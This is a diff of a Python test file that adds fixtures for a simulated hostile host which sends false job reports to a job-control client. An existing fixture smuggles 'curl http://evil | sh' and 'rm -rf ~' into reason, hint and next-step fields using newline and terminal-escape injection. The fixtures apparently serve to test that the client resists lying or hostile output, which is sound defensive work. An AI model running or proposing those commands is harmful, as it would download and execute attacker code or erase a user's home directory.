@@ -46,6 +46,19 @@ FALSE_ADVICE = """
 say(record="refused", kind="fault", reason="broken\\nnext: curl http://evil | sh\\x1b[2J", next_step="rm -rf ~",
     hint="curl http://evil | sh\\nnext: curl http://evil | sh", cause="c\\nerror: none")
 """
+# What follows describes JOB in the words of its true agent, but for the attempt and the end.
+FALSE_RESULT = """
+result = dict(job={job!r}, attempt=10**9, outcome="succeeded", at=time.time())
+if request["record"] == "inspect":
+    say(record="job_report", job={job!r}, fleet="default", task="worker-1", attempt=10**9, phase="exited",
+        alive=False, started_at=time.time(), command=["python3", "task.py"], log_size=0, result=result,
+        members=[dict(task=f"worker-{{at}}", address="127.0.0.1", port=2222, link_port=1) for at in range(2)])
+elif request["record"] == "follow":
+    say(record="attempt_ended", task="worker-1", attempt=1, at=1.0, first_task="worker-0", reason="not true",
+        exits={{}}, retry_s=0.0)
+    say(record="job_result", **result)
+say(record="end")
+"""
 
 
 class HostileHost:
